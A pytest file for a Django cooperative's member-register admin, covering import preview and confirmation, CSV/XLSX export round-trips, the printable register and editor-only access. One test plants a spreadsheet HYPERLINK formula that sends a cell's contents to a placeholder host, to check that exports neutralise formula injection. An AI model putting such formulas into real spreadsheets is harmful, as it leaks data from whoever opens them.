"""The register in the admin: upload, preview, confirm; export parsed back; the export
imported again changes nothing; the printable register; editors only."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from governance.models import MemberPage, RegisterImport
from governance.register import import_register

from .test_register_import import GOOD, HEADER, csv_bytes, gov  # noqa: F401 - fixture

IMPORT = "/admin/registre/import/"
REPORT = "/admin/reports/registre/"


def upload(client, raw, name="registre.csv"):
    return client.post(IMPORT, {"file": SimpleUploadedFile(name, raw)})


def test_upload_preview_then_confirm(gov, editor_client, editor_user):  # noqa: F811
    response = upload(editor_client, csv_bytes([HEADER, *GOOD], delimiter=";"))
    html = response.content.decode()
    assert "3 lignes, 3 nouveaux sociétaires" in html
    assert not MemberPage.objects.filter(member_number="S-001").exists()  # preview only
    response = editor_client.post(IMPORT, {"confirm": "1"}, follow=True)
    assert "Registre importé : 3 créé(s), 0 modifié(s), 0 inchangé(s)." in response.content.decode()
    assert MemberPage.objects.filter(member_number__in=["S-001", "S-002", "S-003"]).count() == 3
    assert RegisterImport.objects.get().user == editor_user


def test_preview_lists_every_error_and_confirm_is_not_offered(gov, editor_client):  # noqa: F811
    bad = [list(row) for row in GOOD]
    bad[0][2] = "Collège 9"
    bad[2][5] = "trois"
    html = upload(editor_client, csv_bytes([HEADER, *bad])).content.decode()
    assert "2 erreurs, rien n’a été importé" in html
    assert "Ligne 2, colonne « Collège »" in html and "Ligne 4, colonne « Parts »" in html
    assert 'name="confirm"' not in html
    editor_client.post(IMPORT, {"confirm": "1"})
    assert not RegisterImport.objects.exists()


def test_export_csv_and_xlsx_parse_back_and_reimport_is_a_no_op(gov, editor_client, editor_user):  # noqa: F811
    import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
    response = editor_client.get(REPORT + "?export=csv")
    content = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == ["S-002", "S-001", "S-003"]  # order of admission
    assert rows[2][:7] == [
        "S-001",
        "Épicerie solidaire La Musette",
        "Collège 1",
        "association",
        "bénéficiaires (usagers, clients)",
        "3",
        "12/03/2021",
    ]
    summary, errors = import_register(content, "export.csv", user=editor_user)
    assert errors == []
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)
    xlsx = b"".join(editor_client.get(REPORT + "?export=xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert [cell.value for cell in sheet[1]] == HEADER
    summary, errors = import_register(xlsx, "export.xlsx", user=editor_user)
    assert errors == [] and summary.updated == 0 and summary.unchanged == 3


def test_csv_export_writes_formulas_as_text_and_imports_back_unchanged(
    gov,  # noqa: F811
    editor_client,
    editor_user,
):
    import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
    names = {
        "S-001": '=HYPERLINK("http://x.test/?"&C2;"ok")',
        "S-002": "-Commune de Val-de-Sarre",
        "S-003": "'=déjà entre guillemets",
    }
    for number, name in names.items():
        MemberPage.objects.filter(member_number=number).update(title=name)
    MemberPage.objects.filter(member_number="S-003").update(territory="@Val-de-Sarre")
    content = b"".join(editor_client.get(REPORT + "?export=csv").streaming_content)
    rows = {row[0]: row for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))}
    assert rows["S-001"][1] == "'" + names["S-001"]
    assert rows["S-002"][1] == "'-Commune de Val-de-Sarre"
    assert rows["S-003"][1] == "''=déjà entre guillemets"
    assert rows["S-003"][9] == "'@Val-de-Sarre"
    assert rows["S-002"][5] == "10"  # shares: a number, no prefix
    summary, errors = import_register(content, "export.csv", user=editor_user)
    assert errors == []
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)
    assert dict(MemberPage.objects.values_list("member_number", "title")) == names
    assert MemberPage.objects.get(member_number="S-003").territory == "@Val-de-Sarre"


def test_printable_register_in_order_of_admission(gov, editor_client, editor_user):  # noqa: F811
    import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
    html = editor_client.get(reverse("register_print")).content.decode()
    assert html.index("Commune de Val-de-Sarre") < html.index("Épicerie solidaire")
    assert "Parts détenues par les sociétaires actuels" in html
    assert ">13<" in html  # 3 + 10; the member who left is not counted


def test_template_has_the_headings(editor_client):
    response = editor_client.get(reverse("register_template"))
    text = response.content.decode("utf-8").lstrip("\ufeff")
    assert text.splitlines()[0].split(";") == HEADER


@pytest.mark.parametrize("role", ["anonymous", "member", "committee"])
def test_only_editors_import_or_export(gov, role_clients, role, editor_user):  # noqa: F811
    import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
    client = role_clients[role]
    for url in [
        IMPORT,
        REPORT,
        REPORT + "?export=csv",
        reverse("register_print"),
        reverse("register_template"),
    ]:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"Musette" not in b"".join(
            getattr(response, "streaming_content", [response.content])
        )
    response = upload(client, csv_bytes([HEADER, GOOD[0]]))
    assert response.status_code in (302, 403)
